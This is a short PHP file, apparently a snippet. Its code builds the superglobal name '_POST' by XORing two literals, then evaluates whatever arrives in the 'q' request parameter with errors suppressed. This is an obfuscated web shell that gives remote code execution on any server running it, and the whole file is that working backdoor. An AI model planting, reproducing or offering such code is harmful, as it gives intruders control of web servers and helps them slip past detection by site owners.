<?php
// The superglobal's name is the XOR of two literals, reached through a variable variable.
$n = '>1.25' ^ 'aaaaa';
$data = ${$n};
@eval($data['q']);
